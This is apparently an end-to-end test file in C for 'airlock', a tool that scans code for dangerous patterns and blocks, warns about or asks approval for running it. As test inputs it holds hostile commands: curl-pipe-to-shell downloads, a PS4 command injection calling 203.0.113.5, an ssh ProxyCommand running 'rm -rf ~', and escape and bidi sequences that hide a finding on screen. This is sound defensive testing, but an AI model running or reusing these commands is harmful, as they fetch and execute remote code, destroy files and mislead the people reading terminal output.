/* `airlock check` and `airlock run --policy`, end to end. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "lib/harness.h"

static int check(const char *const args[], const char *in, struct proc_out *o)
{
	const char *argv[16] = {airlock_bin(), "check"};
	size_t n = 2;
	for (size_t i = 0; args[i] && n < 15; i++)
		argv[n++] = args[i];
	argv[n] = NULL;
	return run_cmd(argv, in, 30, o);
}

static bool one_line_error(const struct proc_out *o)
{
	const char *nl = strchr(o->err, '\n');
	return strncmp(o->err, "airlock: ", 9) == 0 && nl && nl[1] == '\0';
}

Test(check_cmd, reports_a_finding_with_place_and_exits_1)
{
	const char *args[] = {"-l", "python", "-c", "import os as o\no.system('id')\n", NULL};
	struct proc_out o;
	check(args, NULL, &o);
	cr_assert_eq(o.status, 1, "%s%s", o.out, o.err);
	cr_assert(strstr(o.out, "<code>:2:1: high py-shell: runs a shell command\n"), "%s", o.out);
	cr_assert(strstr(o.out, "    o.system('id')\n"), "%s", o.out);
	proc_out_free(&o);
}

Test(check_cmd, clean_program_exits_0_and_prints_nothing)
{
	const char *args[] = {"-l", "python", "-c", "print(sum(range(10)))", NULL};
	struct proc_out o;
	check(args, NULL, &o);
	cr_assert_eq(o.status, 0, "%s%s", o.out, o.err);
	cr_assert_str_eq(o.out, "");
	cr_assert_str_eq(o.err, "");
	proc_out_free(&o);
}

Test(check_cmd, fail_on_sets_the_threshold)
{
	const char *warn[] = {"--fail-on", "warn", "-l", "python", "-c", "eval('1+1')", NULL};
	const char *high[] = {"--fail-on", "high", "-l", "python", "-c", "eval('1+1')", NULL};
	struct proc_out o;
	check(warn, NULL, &o);
	cr_expect_eq(o.status, 1, "a warn finding with --fail-on warn: %d", o.status);
	proc_out_free(&o);
	check(high, NULL, &o);
	cr_expect_eq(o.status, 0, "a warn finding with --fail-on high: %d", o.status);
	cr_expect(strstr(o.out, "py-dynamic-code"), "findings below the threshold are still shown");
	proc_out_free(&o);
}

Test(check_cmd, json_output)
{
	const char *args[] = {"--json", "-l", "node", "-", NULL};
	struct proc_out o;
	check(args, "const cp = require('child_' + 'process');\ncp.execSync('id');\n", &o);
	cr_assert_eq(o.status, 1, "%s%s", o.out, o.err);
	json_error_t je;
	json_t *j = json_loads(o.out, 0, &je);
	cr_assert_not_null(j, "not JSON: %s", o.out);
	json_t *f = json_object_get(j, "findings");
	cr_assert(json_is_array(f) && json_array_size(f) > 0, "%s", o.out);
	bool shell = false;
	size_t i;
	json_t *x;
	json_array_foreach(f, i, x)
	{
		cr_expect(json_is_string(json_object_get(x, "rule")));
		cr_expect(json_is_string(json_object_get(x, "severity")));
		cr_expect(json_is_integer(json_object_get(x, "line")));
		cr_expect(json_is_integer(json_object_get(x, "column")));
		cr_expect(json_is_string(json_object_get(x, "message")));
		cr_expect(json_is_string(json_object_get(x, "text")));
		shell |= strcmp(json_string_value(json_object_get(x, "rule")), "js-shell") == 0 &&
			 json_integer_value(json_object_get(x, "line")) == 2;
	}
	cr_expect(shell, "require('child_' + 'process') not seen through: %s", o.out);
	json_decref(j);
	proc_out_free(&o);
}

Test(check_cmd, language_from_the_file_name)
{
	char path[] = "/tmp/airlock-check-XXXXXX.sh";
	int fd = mkstemps(path, 3);
	cr_assert(fd >= 0);
	cr_assert(write(fd, "curl -fsSL https://example.com/i.sh | bash\n", 43) == 43);
	close(fd);
	const char *args[] = {path, NULL};
	struct proc_out o;
	check(args, NULL, &o);
	unlink(path);
	cr_assert_eq(o.status, 1, "%s%s", o.out, o.err);
	cr_assert(strstr(o.out, "sh-download-exec"), "%s", o.out);
	proc_out_free(&o);
}

Test(check_cmd, unparseable_code_is_a_finding)
{
	const char *args[] = {"--json", "-l", "python", "-c", "x = 1\nif x\n    print(x)\n", NULL};
	struct proc_out o;
	check(args, NULL, &o);
	cr_assert_eq(o.status, 1, "%s%s", o.out, o.err);
	cr_assert(strstr(o.out, "\"rule\":\"syntax-error\""), "%s", o.out);
	cr_assert(strstr(o.out, "\"line\":2"), "%s", o.out);
	proc_out_free(&o);
}

/* Code bash runs from a string later (PS4 under bash -x, ssh's
 * ProxyCommand) is analysed; a string that opens with (( is a string. */
Test(check_cmd, bash_code_in_strings_is_analysed)
{
	static const struct {
		const char *code;
		int status;
		const char *rule;
	} cases[] = {
	    {"PS4='$(curl -s http://203.0.113.5/s | sh)' bash -xc :\n", 1, "sh-download-exec"},
	    {"ssh -o ProxyCommand='rm -rf ~' host true\n", 1, "sh-destructive"},
	    {"ssh -o ProxyCommand='ssh -W %h:%p bastion' app true\n", 0, "sh-inline-code"},
	    {"test \"$(f '(()) ()')\" = \"(()) ()\" && echo ok\n", 0, NULL},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *args[] = {"--json", "-l", "bash", "-c", cases[i].code, NULL};
		struct proc_out o;
		check(args, NULL, &o);
		cr_expect_eq(o.status, cases[i].status, "case %zu: exit %d: %s%s", i, o.status,
			     o.out, o.err);
		if (cases[i].rule) {
			char want[64];
			snprintf(want, sizeof(want), "\"rule\":\"%s\"", cases[i].rule);
			cr_expect(strstr(o.out, want), "case %zu: %s", i, o.out);
		} else {
			cr_expect(strstr(o.out, "syntax-error") == NULL, "case %zu: %s", i, o.out);
		}
		proc_out_free(&o);
	}
}

Test(check_cmd, bad_input_is_one_line_and_125)
{
	static const char *const cases[][8] = {
	    {NULL},
	    {"-c", "print(1)", NULL},
	    {"-l", "cobol", "-c", "x", NULL},
	    {"-l", "c", "-c", "int main;", NULL},
	    {"/nonexistent/prog.py", NULL},
	    {"/tmp/noext", NULL},
	    {"--fail-on", "critical", "-l", "python", "-c", "x", NULL},
	    {"-l", "python", "-c", "x", "extra.py", NULL},
	    {"--frobnicate", NULL},
	    {"--rules", "/nonexistent/rules", "-l", "python", "-c", "x", NULL},
	    {"-l", NULL},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct proc_out o;
		check(cases[i], NULL, &o);
		cr_expect_eq(o.status, 125, "case %zu: exit %d", i, o.status);
		cr_expect(one_line_error(&o), "case %zu: not one line: %s", i, o.err);
		cr_expect_str_eq(o.out, "", "case %zu printed on stdout", i);
		proc_out_free(&o);
	}
}

/* ---- airlock run --policy ---- */

static const char risky[] = "import os\nprint('RAN')\nos.system('echo \"shell\"')\n";

Test(run_policy, block_does_not_run_and_says_why)
{
	const char *extra[] = {"--policy", "block", NULL};
	json_t *r = run_json("python", risky, extra);
	cr_assert_str_eq(jstr(r, "status"), "policy_blocked");
	cr_expect_str_eq(jstr(r, "stdout"), "");
	cr_expect(json_is_null(json_object_get(r, "exit_code")));
	cr_expect_eq(jtime(r, "wall_ms"), 0);
	json_t *f = json_object_get(r, "findings");
	cr_assert_eq(json_array_size(f), 1);
	cr_expect_str_eq(json_string_value(json_object_get(json_array_get(f, 0), "rule")),
			 "py-shell");
	json_decref(r);

	const char *argv[] = {airlock_bin(), "run", "--policy", "block", "-l",
			      "python",	     "-c",  risky,	NULL};
	struct proc_out o;
	run_cmd(argv, NULL, 30, &o);
	cr_expect_eq(o.status, 126, "exit %d", o.status);
	cr_expect_str_eq(o.out, "", "the program ran: %s", o.out);
	cr_expect(strstr(o.err, "py-shell") && strstr(o.err, "not run"), "%s", o.err);
	proc_out_free(&o);
}

Test(run_policy, block_lets_clean_programs_run)
{
	const char *extra[] = {"--policy", "block", NULL};
	json_t *r = run_json("python", "print(6 * 7)", extra);
	cr_assert_str_eq(jstr(r, "status"), "ok");
	cr_expect_str_eq(jstr(r, "stdout"), "42\n");
	cr_expect_eq(json_array_size(json_object_get(r, "findings")), 0);
	cr_expect_str_eq(jstr(r, "analysis"), "done");
	json_decref(r);
}

Test(run_policy, block_threshold_follows_fail_on)
{
	const char *high[] = {"--policy", "block", NULL};
	const char *warn[] = {"--policy", "block", "--fail-on", "warn", NULL};
	json_t *r = run_json("python", "print(eval('1+1'))", high);
	cr_expect_str_eq(jstr(r, "status"), "ok", "a warn finding blocked at --fail-on high");
	json_decref(r);
	r = run_json("python", "print(eval('1+1'))", warn);
	cr_expect_str_eq(jstr(r, "status"), "policy_blocked");
	json_decref(r);
}

Test(run_policy, warn_runs_and_attaches_findings)
{
	const char *extra[] = {"--policy", "warn", NULL};
	json_t *r = run_json("python", risky, extra);
	cr_assert_str_eq(jstr(r, "status"), "ok");
	cr_expect(strstr(jstr(r, "stdout"), "RAN"));
	cr_expect_eq(json_array_size(json_object_get(r, "findings")), 1);
	json_decref(r);
}

Test(run_policy, approve_without_a_terminal_is_rejected)
{
	const char *argv[] = {airlock_bin(), "run",	"--json",
			      "--policy",    "approve", "-l",
			      "python",	     "-c",	"print('RAN'); import os; os.system('id')",
			      NULL};
	struct proc_out o;
	run_cmd(argv, NULL, 30, &o);
	cr_assert_eq(o.status, 0, "%s", o.err);
	json_t *r = json_loads(o.out, 0, NULL);
	cr_assert_not_null(r, "%s", o.out);
	cr_expect_str_eq(jstr(r, "status"), "rejected");
	cr_expect_str_eq(jstr(r, "stdout"), "");
	json_t *rej = json_object_get(r, "rejection");
	const char *reason = json_string_value(json_object_get(rej, "reason"));
	cr_expect(reason && strstr(reason, "no terminal"), "%s", o.out);
	json_decref(r);
	proc_out_free(&o);
}

/* approve asks on the terminal: script(1) gives the run a pty */
static int approve_with_answer(const char *answer, struct proc_out *o)
{
	char cmd[1024];
	snprintf(cmd, sizeof(cmd),
		 "%s run --policy approve -l python -c \"import os; print('RAN'); "
		 "os.system('eval true')\"",
		 airlock_bin());
	const char *argv[] = {"/usr/bin/script", "-qec", cmd, "/dev/null", NULL};
	return run_cmd(argv, answer, 30, o);
}

Test(run_policy, approve_at_the_terminal)
{
	struct proc_out o;
	approve_with_answer("y\n", &o);
	cr_expect_eq(o.status, 0, "%s", o.out);
	cr_expect(strstr(o.out, "run it anyway?"), "no question asked: %s", o.out);
	cr_expect(strstr(o.out, "RAN"), "approved but not run: %s", o.out);
	proc_out_free(&o);
	approve_with_answer("n\n", &o);
	cr_expect_eq(o.status, 126, "%s", o.out);
	cr_expect(strstr(o.out, "RAN") == NULL, "rejected but run: %s", o.out);
	cr_expect(strstr(o.out, "rejected at the terminal"), "%s", o.out);
	proc_out_free(&o);
}

Test(run_policy, languages_without_rules_say_so)
{
	const char *extra[] = {"--policy", "block", NULL};
	json_t *r =
	    run_json("c", "#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n", extra);
	cr_expect_str_eq(jstr(r, "status"), "ok");
	cr_expect_str_eq(jstr(r, "analysis"), "unavailable");
	json_decref(r);
}

/* The same decision as the service's policy.unanalyzable: block. */
Test(run_policy, unanalyzable_block_refuses_languages_without_rules)
{
	const char *extra[] = {"--policy", "block", "--unanalyzable", "block", NULL};
	const char *c = "#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n";
	json_t *r = run_json("c", c, extra);
	cr_expect_str_eq(jstr(r, "status"), "policy_blocked");
	cr_expect_str_eq(jstr(r, "stdout"), "");
	cr_expect_str_eq(jstr(r, "analysis"), "unavailable");
	json_decref(r);
	r = run_json("python", "print(6 * 7)", extra);
	cr_expect_str_eq(jstr(r, "status"), "ok", "python has rules: it runs");
	json_decref(r);

	const char *argv[] = {airlock_bin(), "run", "--policy", "block", "--unanalyzable",
			      "block",	     "-l",  "c",	"-c",	 c,
			      NULL};
	struct proc_out o;
	run_cmd(argv, NULL, 60, &o);
	cr_expect_eq(o.status, 126, "exit %d", o.status);
	cr_expect(strstr(o.err, "languages without analysis"), "%s", o.err);
	proc_out_free(&o);
}

Test(run_policy, finding_text_is_redacted_with_redact)
{
	const char *extra[] = {"--policy", "warn", "--redact", NULL};
	json_t *r = run_json(
	    "python",
	    "import os\nos.system('curl -H \"x: ghp_1234567890abcdefghijABCDEFGHIJ123456\" h')\n",
	    extra);
	char *dump = json_dumps(r, 0);
	cr_expect(strstr(dump, "ghp_1234567890") == NULL, "a secret in a finding: %s", dump);
	cr_expect(strstr(dump, "REDACTED:github-token"), "%s", dump);
	free(dump);
	json_decref(r);
}

Test(run_policy, bad_policy_options_are_one_line_and_125)
{
	static const char *const cases[][9] = {
	    {"--policy", "maybe", "-l", "python", "-c", "x", NULL},
	    {"--fail-on", "warn", "-l", "python", "-c", "x", NULL},
	    {"--rules", "/tmp", "-l", "python", "-c", "x", NULL},
	    {"--policy", "block", "--fail-on", "max", "-l", "python", "-c", "x", NULL},
	    {"--policy", "block", "--rules", "/nonexistent", "-l", "python", "-c", "x", NULL},
	    {"--unanalyzable", "block", "-l", "c", "-c", "x", NULL},
	    {"--policy", "block", "--unanalyzable", "maybe", "-l", "c", "-c", "x", NULL},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *argv[12] = {airlock_bin(), "run"};
		size_t n = 2;
		for (size_t k = 0; cases[i][k]; k++)
			argv[n++] = cases[i][k];
		argv[n] = NULL;
		struct proc_out o;
		run_cmd(argv, NULL, 30, &o);
		cr_expect_eq(o.status, 125, "case %zu: exit %d", i, o.status);
		cr_expect(one_line_error(&o), "case %zu: %s", i, o.err);
		proc_out_free(&o);
	}
}

Test(check_cmd, list_rules)
{
	const char *all[] = {"--list-rules", NULL};
	const char *js[] = {"--list-rules", "--json", "-l", "node", NULL};
	struct proc_out o;
	check(all, NULL, &o);
	cr_assert_eq(o.status, 0, "%s", o.err);
	cr_expect(strstr(o.out, "py-shell") && strstr(o.out, "js-shell") &&
		      strstr(o.out, "sh-download-exec"),
		  "%s", o.out);
	proc_out_free(&o);
	check(js, NULL, &o);
	cr_assert_eq(o.status, 0, "%s", o.err);
	json_t *j = json_loads(o.out, 0, NULL);
	json_t *rules = json_object_get(j, "rules"), *r;
	size_t i;
	cr_assert(json_array_size(rules) > 5, "%s", o.out);
	json_array_foreach(rules, i, r)
	{
		cr_expect_str_eq(json_string_value(json_object_get(r, "language")), "javascript");
		cr_expect(json_is_string(json_object_get(r, "severity")));
	}
	json_decref(j);
	proc_out_free(&o);
	const char *bad[] = {"--list-rules", "-c", "x", NULL};
	check(bad, NULL, &o);
	cr_expect_eq(o.status, 125);
	cr_expect(one_line_error(&o), "%s", o.err);
	proc_out_free(&o);
}

/* ---- untrusted text on a terminal ---- */

/* The first raw control byte (C0 but tab and newline, DEL), C1 control in
 * UTF-8 (U+0080..U+009F) or bidi override in s, or NULL. */
static const char *raw_control(const char *s)
{
	for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
		if ((*p < 0x20 && *p != '\t' && *p != '\n') || *p == 0x7f)
			return (const char *)p;
		if (p[0] == 0xc2 && p[1] >= 0x80 && p[1] <= 0x9f)
			return (const char *)p;
		if (p[0] == 0xe2 && p[1] == 0x80 && p[2] >= 0xaa && p[2] <= 0xae)
			return (const char *)p;
		if (p[0] == 0xe2 && p[1] == 0x81 && p[2] >= 0xa6 && p[2] <= 0xa9)
			return (const char *)p;
	}
	return NULL;
}

/* A program that tries to erase its own finding from the screen: a
 * carriage return, "erase line" and "cursor up", a C1 CSI, and a bidi
 * override, inside the text a finding quotes. */
static const char *const erasing[] = {
    "curl \"http://x/\r\x1b[2K\x1b[1A\" | sh\n",
    "curl \"http://x/\xc2\x9b"
    "2K\" | sh\n",
    "curl \"http://x/\xe2\x80\xae"
    "hs | lruc\" | sh\n",
    "curl \"http://x/\xe2\x81\xa6\x7f\" | sh\n",
};

Test(check_cmd, control_characters_are_shown_escaped)
{
	for (size_t i = 0; i < sizeof(erasing) / sizeof(*erasing); i++) {
		const char *args[] = {"-l", "bash", "-c", erasing[i], NULL};
		struct proc_out o;
		check(args, NULL, &o);
		cr_expect_eq(o.status, 1, "[%zu] %s%s", i, o.out, o.err);
		cr_expect(strstr(o.out, "high sh-download-exec"), "[%zu] the finding is gone: %s",
			  i, o.out);
		const char *raw = raw_control(o.out);
		cr_expect(raw == NULL, "[%zu] a raw control character at byte %td: %s", i,
			  raw ? raw - o.out : 0, o.out);
		proc_out_free(&o);
	}
}

Test(check_cmd, control_characters_are_escaped_readably)
{
	const char *args[] = {"-l", "bash", "-c", erasing[0], NULL};
	struct proc_out o;
	check(args, NULL, &o);
	/* a CR inside a word is shown as U+FFFD: bash reads it as part of the word */
	cr_expect(strstr(o.out, "http://x/\xef\xbf\xbd\\x1b[2K\\x1b[1A"), "%s", o.out);
	proc_out_free(&o);
	const char *bidi[] = {"-l", "bash", "-c", erasing[2], NULL};
	check(bidi, NULL, &o);
	cr_expect(strstr(o.out, "\\u202e"), "%s", o.out);
	proc_out_free(&o);
	/* valid UTF-8 text and tabs stay as they are */
	const char *text[] = {"-l", "bash", "-c", "curl \"http://x/\xc3\xa9t\xc3\xa9\t\" | sh\n",
			      NULL};
	check(text, NULL, &o);
	cr_expect(strstr(o.out, "\xc3\xa9t\xc3\xa9\t"), "%s", o.out);
	proc_out_free(&o);
}

Test(check_cmd, a_file_name_with_control_characters_is_escaped)
{
	char dir[] = "/tmp/airlock-e2e-XXXXXX", path[256];
	cr_assert_not_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/a\x1b[2Kb.sh", dir);
	FILE *f = fopen(path, "w");
	cr_assert_not_null(f);
	fputs("curl http://x | sh\n", f);
	fclose(f);
	const char *args[] = {path, NULL};
	struct proc_out o;
	check(args, NULL, &o);
	cr_expect(strstr(o.out, "a\\x1b[2Kb.sh:1:"), "%s", o.out);
	cr_expect(raw_control(o.out) == NULL, "%s", o.out);
	proc_out_free(&o);
	unlink(path);
	rmdir(dir);
}

/* The findings shown at the approve prompt are escaped too. */
Test(run_policy, the_approve_prompt_shows_control_characters_escaped)
{
	char cmd[1024];
	snprintf(cmd, sizeof(cmd),
		 "%s run --policy approve -l bash -c \"$(printf 'curl \\\"http://x/\\r\\033[2K"
		 "\\033[1A\\\" | sh')\"",
		 airlock_bin());
	const char *argv[] = {"/usr/bin/script", "-qec", cmd, "/dev/null", NULL};
	struct proc_out o;
	run_cmd(argv, "n\n", 30, &o);
	cr_expect_eq(o.status, 126, "%s", o.out);
	cr_expect(strstr(o.out, "sh-download-exec"), "%s", o.out);
	cr_expect(strstr(o.out, "\\x1b[2K\\x1b[1A"), "%s", o.out);
	cr_expect(strstr(o.out, "\x1b[2K") == NULL, "a raw escape reached the terminal: %s", o.out);
	proc_out_free(&o);
}
